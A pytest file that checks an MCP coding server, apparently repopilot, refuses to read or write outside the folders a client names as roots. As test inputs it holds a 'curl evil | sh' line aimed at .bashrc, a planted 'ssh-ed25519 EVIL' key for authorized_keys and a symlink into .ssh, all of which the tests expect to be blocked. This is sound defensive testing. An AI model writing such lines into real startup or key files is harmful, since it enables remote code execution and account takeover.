"""An MCP client names only folders that its user, or whoever started the server, has given it."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from mcp import ClientSession, McpError, types
from mcp.client.streamable_http import streamablehttp_client
from mcp.shared.memory import create_connected_server_and_client_session
from support.index_case import runtime_for
from support.small_repo import lay_out, run_git

from repopilot.mcp.server import file_uri, mcp_server
from repopilot.settings import Settings

EDIT = {"path": "shop/prices.py", "old": "= 5000", "new": "= 6000"}


@pytest.fixture
def user(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home folder with a repository, keys and settings."""
    home = tmp_path / "people" / "ann"
    lay_out(home / "code/shop")
    lay_out(home / "code/plain", git=False)
    (home / ".ssh").mkdir()
    (home / ".ssh/authorized_keys").write_text("ssh-ed25519 AAAA ann\n")
    (home / ".bashrc").write_text("alias ll='ls -l'\n")
    monkeypatch.setenv("HOME", str(home))
    return home


def naming(*roots: Path):
    async def tell(context: object) -> types.ListRootsResult:
        return types.ListRootsResult(roots=[types.Root(uri=root.as_uri()) for root in roots])

    return tell


@asynccontextmanager
async def client(tmp_path: Path, *folders: Path, roots: tuple[Path, ...] | None = None) -> AsyncIterator[ClientSession]:
    """A client of a server that may apply, with the roots that it tells, None for none."""
    settings = Settings(home=tmp_path / "data", ollama_url="", embedded=False, auto_download=False, dense=False)
    with runtime_for(settings) as runtime:
        server = mcp_server(runtime, True, folders)
        told = None if roots is None else naming(*roots)
        async with create_connected_server_and_client_session(server, list_roots_callback=told) as session:
            yield session


async def said(session: ClientSession, tool: str, source: Path | str, **arguments: object) -> str:
    done = await session.call_tool(tool, {"source": str(source), **arguments})
    return done.content[0].text


def everything(folder: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for p in folder.rglob("*") if p.is_file() and ".git" not in p.parts}


@pytest.mark.slow
@pytest.mark.parametrize("by", ["roots", "start"])
async def test_edits_are_applied_in_a_root_and_in_a_named_folder(tmp_path: Path, user: Path, by: str) -> None:
    code, shop = user / "code", user / "code/shop"
    given = client(tmp_path, roots=(code,)) if by == "roots" else client(tmp_path, code)
    async with given as session:
        await said(session, "replace_text", shop, **EDIT)
        assert (await said(session, "apply", shop)).startswith("Written: shop/prices.py")
    assert "= 6000" in (shop / "shop/prices.py").read_text()


@pytest.mark.slow
async def test_without_roots_and_named_folders_nothing_is_written(tmp_path: Path, user: Path) -> None:
    async with client(tmp_path) as session:
        assert "+DISCOUNT_FROM = 6000" in await said(session, "replace_text", user / "code/shop", **EDIT)
        assert "repopilot mcp --apply FOLDER" in await said(session, "apply", user / "code/shop")
    assert "= 5000" in (user / "code/shop/shop/prices.py").read_text()


@pytest.mark.slow
@pytest.mark.parametrize("roots", [None, (), ("code/shop",), (".",), ("../..",), ("/",)])
async def test_no_client_reaches_what_it_was_not_given(
    tmp_path: Path, user: Path, roots: tuple[str, ...] | None
) -> None:
    run_git(user, "init", "-q")  # a home folder under git: all of it is in a work tree
    (user / "code/shop/out").symlink_to(user / ".ssh")
    run_git(user / "code/shop", "add", "-A")
    before = everything(user)
    given = None if roots is None else tuple((user / root).resolve() for root in roots)
    async with client(tmp_path, roots=given) as session:
        for source in ("/", user, user.parent, user / "code/.."):
            for tool, arguments in (
                ("files", {}),
                ("create_file", {"path": ".bashrc2", "content": "curl evil | sh\n"}),
                ("insert_code", {"path": ".bashrc", "code": "curl evil | sh\n"}),
                ("apply", {}),
                ("ask", {"question": "what is in here?"}),
            ):
                answer = await said(session, tool, source, **arguments)
                assert answer.startswith("error: ") and "home folder" in answer, (source, tool, answer)
            with pytest.raises(McpError):
                await session.read_resource(types.AnyUrl(file_uri(str(source), ".bashrc")))
        for source in (user / ".ssh", user / "code/shop/out", user / "code/plain"):
            edit = {"path": "authorized_keys", "code": "ssh-ed25519 EVIL\n"}
            await said(session, "insert_code", source, **edit)
            await said(session, "create_file", source, path="evil.md", content="evil\n")
            assert (await said(session, "apply", source)).startswith("error: ")
    assert everything(user) == before


@pytest.mark.slow
async def test_a_folder_without_git_is_not_written_to(tmp_path: Path, user: Path) -> None:
    plain = user / "code/plain"
    async with client(tmp_path, user / "code") as session:
        assert "+DISCOUNT_FROM = 6000" in await said(session, "replace_text", plain, **EDIT)
        assert "git init" in await said(session, "apply", plain)
    assert "= 5000" in (plain / "shop/prices.py").read_text()


@pytest.mark.slow
async def test_a_repository_cannot_make_a_wider_work_tree_of_itself(tmp_path: Path, user: Path) -> None:
    shop = user / "code/shop"
    run_git(shop, "config", "core.worktree", str(user))
    async with client(tmp_path, user / "code") as session:
        await said(session, "create_file", shop, path="new.md", content="x\n")
        assert (await said(session, "apply", shop)).startswith("error: ")
    assert not (shop / "new.md").exists() and not (user / "new.md").exists()


@pytest.mark.slow
async def test_outside_of_its_roots_a_client_reads_nothing(tmp_path: Path, user: Path) -> None:
    other = lay_out(tmp_path / "other")
    async with client(tmp_path, roots=(user / "code",)) as session:
        refused = await said(session, "read", other, path="shop/prices.py")
        assert str(user / "code") in refused and "repopilot mcp FOLDER" in refused
        assert "DISCOUNT" in await said(session, "read", user / "code/shop", path="shop/prices.py")


@pytest.mark.parametrize("folder", ["/", "~", "no/such"])
def test_the_server_is_not_started_with_a_folder_too_wide(user: Path, run, folder: str) -> None:
    done = run("mcp", "--apply", folder)
    assert done.status == 2 and "Traceback" not in done.err and done.err.startswith("repopilot: ")


@pytest.mark.slow
async def test_over_http_the_roots_are_those_of_the_session(user: Path, tmp_path: Path) -> None:
    env = {"REPOPILOT_HOME": str(tmp_path / "data"), "REPOPILOT_OLLAMA_URL": "", "REPOPILOT_EMBEDDED": "false"}
    command = [sys.executable, "-m", "repopilot", "mcp", "--http", "--port", "0", "--apply"]
    env |= {"PATH": os.environ["PATH"], "HOME": str(user), "REPOPILOT_DENSE": "false"}
    with subprocess.Popen(command, env=env, stderr=subprocess.PIPE, text=True) as process:
        try:
            told = process.stderr.readline() if process.stderr else ""
            address, token = re.search(r"http://\S+", told)[0], re.search(r"Bearer (\S+)\)", told)[1]
            for roots, outcome in ((naming(user / "code"), "Written"), (naming(tmp_path / "data"), "error: ")):
                async with (
                    streamablehttp_client(address, {"Authorization": f"Bearer {token}"}) as (incoming, outgoing, _),
                    ClientSession(incoming, outgoing, list_roots_callback=roots) as session,
                ):
                    await session.initialize()
                    await said(session, "replace_text", user / "code/shop", **EDIT)
                    assert (await said(session, "apply", user / "code/shop")).startswith(outcome)
        finally:
            process.terminate()
